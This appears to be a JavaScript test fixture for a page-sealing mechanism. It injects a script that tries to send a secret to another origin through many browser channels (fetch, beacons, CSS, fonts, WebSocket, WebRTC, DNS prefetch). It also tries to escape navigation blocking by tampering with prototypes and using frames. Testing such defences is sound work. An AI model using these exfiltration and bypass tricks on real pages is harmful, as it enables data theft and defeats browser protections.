// A script in the page that tries to get a secret out, by every way a browser has. It runs in the page; the hosts count.

/** Every way, by name. Each sends `tag` to `there`, another origin, and where it can to the page's own origin too. */
export const CHANNELS = [
  "fetch", "XHR", "sendBeacon", "image", "CSS url()", "@font-face", "form", "prefetch and preload", "WebSocket",
  "EventSource", "WebRTC", "worker", "iframe", "dns-prefetch", "navigation",
];

/** What else a script can do. The last two need a person who clicks where the script wants it. */
export const FURTHER = ["preconnect", "a click: new tab, another host", "a click: new tab, own host"];

/** The ways a script can send its own page elsewhere, without anybody's click. */
export const LEAVINGS = [
  "location", "refresh", "link", "link in the top frame", "window.open", "form", "download", "page made here", "own download",
  "own call", "type that changes",
  "frame's parent",
  "link in a frame", "sandboxed frame", "navigation.navigate", "document.open", "own listener", "own preventDefault",
  "own getters", "own strings", "address, then reload",
];

/** The text of the script. `sealed` says whether it runs in a page that has sealed itself, by its own `seal.js`. */
export const script = (orders) =>
  (orders.sealed ? 'import { blockNavigation, seal } from "./seal.js";' : "const seal = () => {}; const blockNavigation = seal;") +
  `(${leak})(${JSON.stringify(orders)}, seal, blockNavigation);`;

function leak({ tag, there, socket, connect, stun, dns, leave }, seal, blockNavigation) {
  const ways = [there, "/"];
  const to = (base, channel) => `${base}leak/${tag}/${encodeURIComponent(channel)}?secret=denial-2026-08-31`;
  // The page's own script has made the only policy there may be before the page is sealed: it counts as stolen.
  const stolen = globalThis.trustedTypes?.createPolicy("imr", { createScriptURL: (url) => url });
  blockNavigation();
  seal();
  const element = (name, set, under = document.body) => under.appendChild(Object.assign(document.createElement(name), set));
  const sheet = () => {
    const made = new CSSStyleSheet();
    document.adoptedStyleSheets.push(made);
    return made;
  };
  const channels = {
    fetch: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "secret" }),
    XHR: (url) => {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.send("secret");
    },
    sendBeacon: (url) => navigator.sendBeacon(url, "secret"),
    image: (url) => element("img", { src: url }),
    "CSS url()": (url) => {
      element("p", { textContent: "attribute" }).setAttribute("style", `background-image: url("${url}&by=attribute")`);
      element("p", { textContent: "script" }).style.backgroundImage = `url("${url}&by=script")`;
      element("p", { textContent: "rule", className: "leak" });
      sheet().insertRule(`.leak { background-image: url("${url}&by=rule") }`);
      element("style", { textContent: `h1 { background-image: url("${url}&by=element") }` });
      element("link", { rel: "stylesheet", href: `${url}&by=link` });
    },
    "@font-face": (url) => {
      sheet().insertRule(`@font-face { font-family: "leak"; src: url("${url}") }`);
      element("p", { textContent: "font" }).style.fontFamily = "leak";
      new FontFace("other", `url("${url}&by=script")`).load().catch(() => {});
    },
    form: (url) => {
      element("iframe", { name: "sink" });
      element("form", { action: url, method: "post", target: "sink" }).submit();
    },
    "prefetch and preload": (url) => {
      element("link", { rel: "prefetch", href: `${url}&by=prefetch` });
      element("link", { rel: "preload", as: "fetch", href: `${url}&by=preload` }, document.head);
    },
    WebSocket: (url) => url.startsWith("http") && new WebSocket(url.replace(there, socket)),
    EventSource: (url) => new EventSource(url),
    WebRTC: async () => {
      // A frame of its own has constructors of its own.
      const { contentWindow } = element("iframe", {});
      for (const { RTCPeerConnection } of [window, contentWindow]) {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
        peer.createDataChannel("secret");
        await peer.setLocalDescription(await peer.createOffer());
      }
    },
    worker: (url) => new Worker(stolen ? stolen.createScriptURL(url) : url),
    iframe: (url) => element("iframe", { src: url }),
    "dns-prefetch": () => element("link", { rel: "dns-prefetch", href: `http://${dns}/` }, document.head),
    preconnect: () => element("link", { rel: "preconnect", href: connect }, document.head),
  };
  window.attempt = async (names) => {
    const said = {};
    for (const channel of names) {
      for (const base of ways) {
        // Whatever it answers does not count; only what arrives does.
        await Promise.resolve()
          .then(() => Promise.race([channels[channel](to(base, channel)), Promise.resolve()]))
          .catch((error) => (said[channel] = String(error)));
      }
    }
    return said;
  };

  const link = (url, set = {}, of = document) => {
    const made = Object.assign(of.createElement("a"), { href: url, textContent: "a link", ...set });
    of.body.append(made);
    return made;
  };
  const go = (url) => location.assign(url);
  const replace = (prototype, name, by) => {
    try {
      Object.defineProperty(prototype, name, by);
    } catch {
      // It is fixed: then the way out is tried all the same.
    }
  };
  const leavings = {
    location: go,
    refresh: (url) => element("meta", { httpEquiv: "refresh", content: `0; url=${url}` }, document.head),
    link: (url) => link(url).click(),
    "link in the top frame": (url) => link(url, { target: "_top" }).click(),
    "window.open": (url) => window.open(url, "_self"),
    form: (url) => element("form", { action: url, target: "_top" }).submit(),
    download: (url) => link(url, { download: "file" }).click(),
    "page made here": (url) => {
      const page = `<!DOCTYPE html><meta http-equiv=refresh content="0; url=${url}">`;
      // What the page itself would do with it, if it took it for a file.
      const detail = { name: "", type: "text/html", bytes: page };
      dispatchEvent(new CustomEvent("imr-save", { detail, cancelable: true }));
      go(URL.createObjectURL(new Blob([page], { type: "text/html" })));
    },
    "own download": (url) => {
      replace(NavigateEvent.prototype, "downloadRequest", { get: () => "file" });
      replace(String.prototype, "startsWith", { value: () => true });
      go(url);
    },
    "own call": (url) => {
      replace(Function.prototype, "call", { value: () => url });
      replace(URL, "createObjectURL", { value: () => url });
      dispatchEvent(new CustomEvent("imr-save", { detail: { name: "", type: "text/plain", bytes: "" }, cancelable: true }));
      go(url);
    },
    "type that changes": (url) => {
      const make = document.createElement.bind(document);
      let made;
      document.createElement = (name) => (made = make(name));
      let asked = 0;
      const type = { toString: () => ((asked += 1) > 1 ? "text/html" : "text/plain") };
      const bytes = `<!DOCTYPE html><meta http-equiv=refresh content="0; url=${url}">`;
      dispatchEvent(new CustomEvent("imr-save", { detail: { name: "", type, bytes }, cancelable: true }));
      document.createElement = make;
      go(made ? made.href : url);
    },
    "frame's parent": (url) => (element("iframe", {}).contentWindow.parent.location = url),
    "link in a frame": (url) => link(url, { target: "_parent" }, element("iframe", {}).contentDocument).click(),
    "sandboxed frame": (url) => {
      const frame = document.createElement("iframe");
      frame.sandbox = "allow-scripts allow-same-origin allow-top-navigation";
      frame.onload = () => (frame.contentWindow.top.location = url);
      document.body.append(frame);
    },
    "navigation.navigate": (url) => navigation.navigate(url),
    "document.open": (url) => (document.open(), go(url)),
    "own listener": (url) => {
      const stop = (event) => event.stopImmediatePropagation();
      navigation.addEventListener("navigate", stop, true);
      go(url);
    },
    "own preventDefault": (url) => {
      for (const { prototype } of [Event, NavigateEvent]) replace(prototype, "preventDefault", { value: () => {} });
      go(url);
    },
    "own getters": (url) => {
      replace(NavigateEvent.prototype, "destination", { get: () => ({ url: location.href }) });
      replace(NavigationDestination.prototype, "url", { get: () => location.href });
      replace(Object.prototype, url, { value: true });
      go(url);
    },
    "own strings": (url) => {
      replace(String.prototype, "slice", { value: () => location.href });
      replace(String.prototype, "includes", { value: () => true });
      replace(String.prototype, "startsWith", { value: () => true });
      go(url);
    },
    "address, then reload": (url) => {
      if (!url.startsWith("/") || location.href.endsWith(url)) return;
      history.replaceState(null, "", url);
      location.reload();
    },
  };
  // Another origin than its own cannot stand in a page's address.
  const own = leave === "address, then reload";
  if (leave) leavings[leave](to(own ? "/" : there, leave));
  window.navigate = () => {
    for (const base of ways) go(to(base, "navigation"));
  };
  link(to(there, "a click: new tab, another host"), { target: "_blank", rel: "noopener", id: "there" });
  link(to("/", "a click: new tab, own host"), { target: "_blank", rel: "noopener", id: "own" });
}
